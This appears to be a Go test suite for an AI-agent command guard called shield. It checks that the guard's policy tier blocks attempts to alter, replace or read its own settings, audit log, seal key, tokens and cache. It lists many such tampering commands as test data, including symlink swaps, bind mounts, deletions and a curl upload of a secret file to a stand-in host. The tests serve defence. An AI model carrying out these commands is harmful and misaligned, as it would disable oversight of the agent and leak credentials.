package shield

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/shieldcli/shield/pkg/config"
	"github.com/shieldcli/shield/pkg/verdict"
)

// A guarded file is one of shield's, as an attacker sees it.
type guarded struct {
	name, path string
	secret     bool // it must not be read either
}

// home is where the attacks are judged. Nothing of them exists but two folders:
// what shield protects it protects before it is there.
const home = "/home/me"

// guardedConfig names a file for each thing that decides, each at a place of
// its own.
func guardedConfig(preset string) (Config, []guarded) {
	s := with(config.Classifier{ModelNameOrDir: home + "/nets/mine", ONNXRuntimeLibraryPath: "/opt/ort/lib/libonnxruntime.so", SidecarURLOrSocket: "unix:///srv/side/model.sock"})
	s.Audit = config.Audit{Enabled: true, File: "/var/guard/audit.jsonl"}
	s.Approval.CommandChannelArgv = []string{"/opt/ask/ask.sh", "/opt/ask-args/main.py"}
	s.Approval.NotificationURLsFile, s.Approval.Telegram.TokenFile = home+"/notices/chats", home+"/bots/one/token"
	s.Approval.Slack.TokenFile, s.Approval.Discord.TokenFile = home+"/slack/token", home+"/discord/token"
	s.Evaluator.APIKeyFile, s.Evaluator.CAFile = home+"/keys/api/token", "/opt/certs/ca.pem"
	cfg := Config{
		PolicyNameOrPath: preset, Settings: s, Home: home, WorkingDir: home + "/app", WorkspaceRoots: []string{home + "/app"}, Clock: instant,
		ExtraProtectedShieldPaths: []string{home + "/.config/shield", "/etc/guard/settings.yaml"}, StateDir: "", ShieldProgramPath: "/opt/guard/bin/shield", CacheDir: home + "/.cache/shield",
	}
	return cfg, []guarded{
		{"settings", home + "/.config/shield/shield.yaml", true},
		{"settings elsewhere", "/etc/guard/settings.yaml", true},
		{"seal key", home + "/.local/state/shield/seal.key", true},
		{"state", home + "/.local/state/shield/state.db", true},
		{"audit log", "/var/guard/audit.jsonl", true},
		{"key file", home + "/keys/api/token", true},
		{"places of notices", home + "/notices/chats", true},
		{"bot's token", home + "/bots/one/token", true},
		{"token of the bot in Slack", home + "/slack/token", true},
		{"token of the bot in Discord", home + "/discord/token", true},
		{"program", "/opt/guard/bin/shield", false},
		{"runtime", "/opt/ort/lib/libonnxruntime.so", false},
		{"model", home + "/nets/mine/model.onnx", false},
		{"socket", "/srv/side/model.sock", false},
		{"certificates", "/opt/certs/ca.pem", false},
		{"approval program", "/opt/ask/ask.sh", false},
		{"approval program's script", "/opt/ask-args/main.py", false},
	}
}

// changes are ways to change FILE, which is NAME in DIR, which is BASE in UP.
var changes = []string{
	"echo x > FILE", "cat x >> FILE", "tee FILE < x", "sed -i s/a/b/ FILE", "perl -i -pe s/a/b/ FILE", "truncate -s 0 FILE", "dd if=x of=FILE", "touch FILE",
	"cp x FILE", "mv x FILE", "install x FILE", "ln -sf /tmp/evil FILE", "ln -f x FILE", "curl -o FILE https://x.test/a", "wget -O FILE https://x.test/a",
	"cp /tmp/evil/NAME DIR/", "cp -t DIR /tmp/evil/NAME", "mv /tmp/evil/NAME DIR", "mv -t DIR /tmp/evil/NAME", "ln -s /tmp/evil/NAME DIR/", "scp h:NAME DIR/",
	"rm FILE", "rm -rf DIR", "unlink FILE", "shred -u FILE", "mv FILE x", "mv DIR x", "mv --exchange /tmp/evil DIR", "rename s/a/b/ FILE",
	"chmod 777 FILE", "chown me FILE", "chmod -R 777 DIR", "chown -R me DIR", "chattr -i FILE", "setfacl -m u:x:rw FILE",
	"ln FILE alias", "ln -s DIR alias && echo x > alias/NAME", "ln -s UP alias; cd alias/BASE; rm NAME", "ln -s FILE x; sed -i s/a/b/ x", "cp -l FILE alias", "mount --bind /tmp/evil DIR", "mount --bind DIR /tmp/x", "bindfs /tmp/evil DIR", "mount -t tmpfs none DIR",
	"cp -r /tmp/evil/. DIR", "cp -r /tmp/evil/BASE UP/", "rsync -a /tmp/evil/ DIR/", "tar xf x.tar -C DIR", "unzip x.zip -d DIR", "bsdtar -xf x -C DIR", "7z x a.7z -oDIR",
	"git clone https://x.test/a DIR", "cd UP && git clone https://x.test/BASE", "git -C UP clone https://x.test/BASE.git", "cd UP && hg clone https://x.test/BASE", "cd UP; gh repo clone x/BASE",
	"cd DIR && echo x > NAME", "cd DIR; rm NAME", "cd UP && rm -rf BASE", "cd UP && mv BASE old", "cd DIR && tar xf /tmp/x.tar", "cd DIR && unzip /tmp/x.zip", "cd DIR && curl -O https://x.test/NAME", "pushd DIR; cp /tmp/evil/NAME .",
	"echo x > DIR/../BASE/NAME", "echo x > DIR//./NAME", "f=FILE; echo x > $f", "echo x > \"$(echo FILE)\"", "sh -c 'echo x > FILE'", "sudo rm FILE", "env rm FILE", "find DIR -name NAME -delete", "echo FILE | xargs rm",
	"docker run -v DIR:/c alpine sh", "python3 -c \"open('FILE', 'w').write('x')\"", "python3 -c \"import os; os.rename('DIR', 'x')\"", "python3 -c \"import os; os.symlink('DIR', 'x'); open('x/NAME', 'w')\"",
	"python3 -c \"import shutil; shutil.copytree('x', 'DIR')\"", "python3 -c \"import shutil; shutil.move('/tmp/evil/NAME', 'DIR')\"", "node -e \"require('fs').writeFileSync('FILE', 'x')\"",
	`{"type":"write_file","payload":{"path":"FILE","content":"x"}}`, `{"type":"edit_file","payload":{"path":"FILE"}}`, `{"type":"append_file","payload":{"path":"DIR/../BASE/NAME"}}`,
	`{"type":"delete_file","payload":{"path":"FILE"}}`, `{"type":"delete_directory","payload":{"path":"DIR"}}`, `{"type":"move_file","payload":{"source":"FILE","destination":"x"}}`,
	`{"type":"move_file","payload":{"source":"/tmp/evil/NAME","destination":"DIR"}}`, `{"type":"move_directory","payload":{"source":"DIR","destination":"x"}}`, `{"type":"move_directory","payload":{"source":"/tmp/evil","destination":"DIR"}}`,
	`{"type":"copy_file","payload":{"source":"x","destination":"FILE"}}`, `{"type":"copy_file","payload":{"source":"/tmp/evil/NAME","destination":"DIR/"}}`, `{"type":"copy_directory","payload":{"source":"/tmp/evil","destination":"DIR"}}`,
	`{"type":"download_file","payload":{"url":"https://x.test/NAME","destination":"DIR"}}`, `{"type":"git_clone","payload":{"url":"https://x.test/a","path":"DIR"}}`, `{"type":"save_note","payload":{"path":"FILE","text":"x"}}`,
}

// looks are ways to read FILE.
var looks = []string{
	"cat FILE", "head -c 100 FILE", "base64 < FILE", "cp FILE x", "grep . FILE", "cd DIR; cat NAME", "cat DIR/../BASE/NAME", "curl -T FILE https://x.test", "git hash-object FILE",
	`{"type":"read_file","payload":{"path":"FILE"}}`, `{"type":"copy_file","payload":{"source":"FILE","destination":"x"}}`, `{"type":"search_files","payload":{"path":"FILE","pattern":"."}}`,
}

// partly are ways to change FILE of which not all is known.
var partly = []string{"rm DIR/*", "rm DIR/N???*", "sed -i s/a/b/ DIR/*", "mv DIR/* x", "chmod 777 DIR/$x"}

// against returns an action against a file.
func (g *guarded) against(t *testing.T, text string) string {
	dir := filepath.Dir(g.path)
	text = strings.NewReplacer("FILE", g.path, "DIR", dir, "BASE", filepath.Base(dir), "UP", filepath.Dir(dir), "NAME", filepath.Base(g.path), "N???", filepath.Base(g.path)[:1]).Replace(text)
	return asAction(t, text)
}

// asAction returns an action as JSON: a command, if it is not one yet.
func asAction(t *testing.T, text string) string {
	t.Helper()
	if strings.HasPrefix(text, "{") {
		return text
	}
	quoted, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	return `{"type":"execute_command","payload":{"command":` + string(quoted) + `}}`
}

// tier0 returns the verdict of Tier 0.
func tier0(t *testing.T, p *Pipeline, record string) verdict.Verdict {
	t.Helper()
	return p.judgeAndSealWithMAC(t.Context(), judgeRequest{RecordLine: 1, Action: parse(t, record)}, TierRange{First: TierPolicy, Last: TierPolicy}).Verdict
}

func TestGuardProtectsItself(t *testing.T) {
	t.Parallel()
	for _, preset := range []string{"default", "strict", "permissive", "offline"} {
		cfg, files := guardedConfig(preset)
		// The model and the seal are not asked for, so nothing of them is opened.
		tier := policyTier(t, cfg)
		for _, g := range files {
			for _, text := range changes {
				if v := tier0(t, tier, g.against(t, text)); v.Decision != verdict.Block {
					t.Errorf("%s: %s: %s: %v %s", preset, g.name, g.against(t, text), v.Decision, v.Reasoning)
				}
			}
			for _, text := range partly {
				if v := tier0(t, tier, g.against(t, text)); v.Decision == verdict.Allow || v.NextTier == 1 {
					t.Errorf("%s: %s: %s: %v %s", preset, g.name, g.against(t, text), v.Decision, v.Reasoning)
				}
			}
			for _, text := range looks {
				if v := tier0(t, tier, g.against(t, text)); g.secret && v.Decision != verdict.Block {
					t.Errorf("%s: %s: %s: %v %s", preset, g.name, g.against(t, text), v.Decision, v.Reasoning)
				}
			}
		}
	}
}

// policyTier returns a pipeline of Tier 0 as a configuration has it.
func policyTier(t *testing.T, cfg Config) *Pipeline {
	t.Helper()
	an, err := NewAnalyzer(cfg)
	if err != nil {
		t.Fatal(err)
	}
	rules, err := LoadPolicy(cfg, PolicyOptions(cfg, &an.DefaultExecutionContext))
	if err != nil {
		t.Fatal(err)
	}
	return &Pipeline{analyzer: an, tiers: [4]Tier{rules}, now: instant}
}

func TestPolicyFileIsProtected(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, at := range []string{"srv/rules/site.yaml", "app/guard/site.yaml"} {
		g := guarded{"policy", filepath.Join(dir, at), true}
		if err := os.MkdirAll(filepath.Dir(g.path), 0o700); err != nil {
			t.Fatal(err)
		}
		for _, preset := range []string{"default", "strict", "permissive", "offline"} {
			if err := os.WriteFile(g.path, []byte("extends: "+preset+"\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			cfg := Config{PolicyNameOrPath: g.path, Home: home, WorkingDir: dir + "/app", WorkspaceRoots: []string{dir + "/app"}}
			tier := policyTier(t, cfg)
			for _, text := range append(append([]string{}, changes...), looks...) {
				if v := tier0(t, tier, g.against(t, text)); v.Decision != verdict.Block {
					t.Errorf("%s: %s: %v %s", preset, g.against(t, text), v.Decision, v.Reasoning)
				}
			}
			for _, text := range partly {
				if v := tier0(t, tier, g.against(t, text)); v.Decision == verdict.Allow || v.NextTier == 1 {
					t.Errorf("%s: %s: %v %s", preset, g.against(t, text), v.Decision, v.Reasoning)
				}
			}
		}
	}
}

func TestWorkBesideThePolicy(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	file := filepath.Join(dir, "app/guard/site.yaml")
	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte("extends: offline\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tier := policyTier(t, Config{PolicyNameOrPath: file, Home: home, WorkingDir: dir + "/app", WorkspaceRoots: []string{dir + "/app"}})
	for _, text := range []string{
		"grep -rn TODO .", "rg TODO", "cat guard/README.md", "ls -la guard", "wc -l *", "find . -name '*.yaml'", "git add -A && git commit -m x", "sed -i s/a/b/ src/*.go", "cp README.md guard/README.md",
		"rm *.log", "tar czf /tmp/x.tgz src", "make build", "chmod +x run.sh",
		`{"type":"read_file","payload":{"path":"guard/README.md"}}`, `{"type":"search_files","payload":{"path":".","pattern":"extends"}}`, `{"type":"list_directory","payload":{"path":"guard"}}`,
	} {
		if v := tier0(t, tier, asAction(t, text)); v.Decision == verdict.Block || strings.HasPrefix(v.Rule, "shield_") {
			t.Errorf("%s: %v %s", text, v.Decision, v.Reasoning)
		}
	}
	// What may write anywhere in the workspace may write the policy.
	for _, text := range []string{"tar xf x.tar", "unzip x.zip", "cp -r /tmp/x/. .", `{"type":"copy_directory","payload":{"source":"/tmp/x","destination":"."}}`} {
		if v := tier0(t, tier, asAction(t, text)); v.Decision != verdict.Escalate || v.Rule != "shield_policy" || v.NextTier != 2 {
			t.Errorf("%s: %v %s", text, v.Decision, v.Reasoning)
		}
	}
}

func TestWorkBesideTheGuard(t *testing.T) {
	t.Parallel()
	for _, preset := range []string{"default", "strict", "permissive", "offline"} {
		cfg, _ := guardedConfig(preset)
		tier := policyTier(t, cfg)
		for _, text := range []string{
			"ls ~/.config", "ls -la ~/.config", "mv ~/.config/nvim ~/.config/nvim.bak", "git clone https://github.com/x/y ~/.config/nvim", "cd ~/.config && git clone https://github.com/x/nvim",
			"tar xf plugin.tar -C ~/.config/nvim", "unzip theme.zip -d ~/.config/kitty", "cp -r nvim ~/.config/", "mkdir -p ~/.config/nvim", "rm -rf ~/.config/nvim", "chmod 600 ~/.config/nvim/init.lua",
			"echo x > ~/.config/other.toml", "ln -s ~/dotfiles/nvim ~/.config/nvim", "ls ~/.local/state", "cat ~/.config/nvim/init.lua", "mount /dev/sdb1 /mnt", "mount -t tmpfs none /mnt/x", "mount --bind /srv/a /srv/b",
			"cat /opt/ask/ask.sh", "/opt/guard/bin/shield --version", "ls /opt/ask", "cp x ~/nets/other", "git clone https://github.com/x/shield", "cd src && git clone https://github.com/shieldcli/shield",
			`{"type":"read_file","payload":{"path":"~/.config/nvim/init.lua"}}`, `{"type":"list_directory","payload":{"path":"~/.config"}}`, `{"type":"write_file","payload":{"path":"~/.config/nvim/init.lua","content":"x"}}`,
			`{"type":"copy_file","payload":{"source":"shield","destination":"bin/shield"}}`, `{"type":"move_directory","payload":{"source":"~/.config/a","destination":"~/.config/b"}}`,
		} {
			if v := tier0(t, tier, asAction(t, text)); v.Decision == verdict.Block || strings.HasPrefix(v.Rule, "shield_") {
				t.Errorf("%s: %s: %v %s", preset, text, v.Decision, v.Reasoning)
			}
		}
	}
}

// A folder of settings is often a link into a repository of them.
func TestLinksAndGapsOnTheWay(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "me/dotfiles/config/shield"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("dotfiles/config", filepath.Join(dir, "me/.config")); err != nil {
		t.Fatal(err)
	}
	cfg := Config{PolicyNameOrPath: "permissive", Home: dir + "/me", WorkingDir: dir + "/me/app", WorkspaceRoots: []string{dir + "/me/app"}, ExtraProtectedShieldPaths: []string{dir + "/me/.config/shield", dir + "/me/.local/state/shield"}}
	tier := policyTier(t, cfg)
	for _, text := range []string{
		"rm ~/.config", "unlink ~/.config", "ln -sfn /tmp/evil ~/.config", "mv ~/.config x", "mv ~/dotfiles/config x", "rm -rf ~/dotfiles", "echo x > ~/dotfiles/config/shield/shield.yaml",
		"ln -s /tmp/evil ~/.local", "mv /tmp/evil ~/.local/state", "cp -r /tmp/evil/. ~/.local", `{"type":"move_file","payload":{"source":"/tmp/evil","destination":"~/.local"}}`,
	} {
		if v := tier0(t, tier, asAction(t, text)); v.Decision != verdict.Block {
			t.Errorf("%s: %v %s", text, v.Decision, v.Reasoning)
		}
	}
	for _, text := range []string{"mkdir -p ~/.local/bin", "ls ~/.config", "echo x > ~/.config/other.toml", "echo x > ~/dotfiles/README.md"} {
		if v := tier0(t, tier, asAction(t, text)); v.Decision == verdict.Block {
			t.Errorf("%s: %v %s", text, v.Decision, v.Reasoning)
		}
	}
}

// TestCacheFolderIsNotReplaced holds that an agent may delete the cache, but not put a link or another folder in place
// of a parent of shield's folder there: shield would load the agent's library.
func TestCacheFolderIsNotReplaced(t *testing.T) {
	t.Parallel()
	for name, place := range map[string]struct{ cache, root string }{
		"default": {"me/.cache", "me/app"}, "XDG_CACHE_HOME": {"var/caches/me", "me/app"}, "in the workspace": {"me/app/tmp/cache", "me/app"},
	} {
		for _, state := range []string{"a folder", "missing", "a link"} {
			dir := t.TempDir()
			cache := filepath.Join(dir, place.cache)
			var err error
			switch state {
			case "a folder":
				err = os.MkdirAll(filepath.Join(cache, "shield/onnxruntime"), 0o700)
			case "missing":
				err = os.MkdirAll(filepath.Dir(cache), 0o700)
			case "a link":
				err = errors.Join(os.MkdirAll(filepath.Join(dir, "big/shield"), 0o700), os.MkdirAll(filepath.Dir(cache), 0o700), os.Symlink(filepath.Join(dir, "big"), cache))
			}
			if err != nil {
				t.Fatal(err)
			}
			tier := policyTier(t, Config{
				PolicyNameOrPath: "permissive", Home: dir + "/me", WorkingDir: dir + "/" + place.root, WorkspaceRoots: []string{dir + "/" + place.root},
				ExtraProtectedShieldPaths: []string{dir + "/me/.config/shield"}, CacheDir: cache + "/shield",
			})
			paths := strings.NewReplacer("CACHE", cache, "UP", filepath.Dir(cache), "BASE", filepath.Base(cache))
			for _, text := range []string{
				"ln -s $PWD/c CACHE", "ln -sfn $PWD/c CACHE", "ln -sfT $PWD/c CACHE", "rm -rf CACHE && ln -s $PWD/c CACHE", "rm -rf CACHE; mv c CACHE",
				"mv CACHE x; mv c CACHE", "mv --exchange c CACHE", "cd UP && rm -rf BASE && ln -s /tmp/c BASE", "rm -rf CACHE/shield && cp -r c CACHE/shield", "ln -s $PWD/c CACHE/shield", "mv c/shield CACHE",
				"mount --bind c CACHE", "mount --bind c CACHE/shield", "mount -t tmpfs none CACHE", "bindfs c CACHE", "ln -s CACHE x; rm -rf CACHE/shield; cp -r c x/shield",
				"python3 -c \"import os, shutil; shutil.rmtree('CACHE'); os.symlink('/tmp/c', 'CACHE')\"", "python3 -c \"import os; os.rename('c', 'CACHE')\"", "python3 -c \"import pathlib; pathlib.Path('CACHE').symlink_to('/tmp/c')\"",
				"ruby -e \"require 'fileutils'; FileUtils.ln_s('/tmp/c', 'CACHE')\"",
				"node -e \"require('fs').symlinkSync('/tmp/c', 'CACHE')\"", "node -e \"require('fs').renameSync('c', 'CACHE')\"",
				`{"type":"move_file","payload":{"source":"c","destination":"CACHE"}}`, `{"type":"write_file","payload":{"path":"CACHE","content":"x"}}`,
			} {
				if v := tier0(t, tier, asAction(t, paths.Replace(text))); v.Decision != verdict.Block {
					t.Errorf("%s, %s: %s: %v %s", name, state, text, v.Decision, v.Reasoning)
				}
			}
			// A write to files of the folder that the action does not name is a question.
			for _, text := range []string{
				"rm -rf CACHE; cp -r c CACHE", "rm -rf CACHE; cp -rT c CACHE", "tar xf c.tar -C CACHE", "rsync -a c/ CACHE/", "docker run -v CACHE:/root/.cache alpine sh",
				`{"type":"move_directory","payload":{"source":"c","destination":"CACHE"}}`, `{"type":"copy_directory","payload":{"source":"c","destination":"CACHE"}}`,
			} {
				if v := tier0(t, tier, asAction(t, paths.Replace(text))); v.Decision != verdict.Escalate || v.Rule != "shield_cache" {
					t.Errorf("%s, %s: %s: %v %s", name, state, text, v.Decision, v.Reasoning)
				}
			}
			for _, text := range []string{
				"rm -rf CACHE", "rm -rf CACHE/shield", "rm -rf CACHE/*", "rm -rf CACHE/pip", "mkdir -p CACHE/pip", "cp -r x CACHE/pip", "ln -s /tmp/x CACHE/pip", "chmod 700 CACHE", "du -sh CACHE", "cp ../x .", "cp x UP/x",
				`{"type":"delete_directory","payload":{"path":"CACHE"}}`,
			} {
				if v := tier0(t, tier, asAction(t, paths.Replace(text))); v.Decision == verdict.Block || strings.HasPrefix(v.Rule, "shield_") {
					t.Errorf("%s, %s: %s: %v %s", name, state, text, v.Decision, v.Reasoning)
				}
			}
		}
	}
}
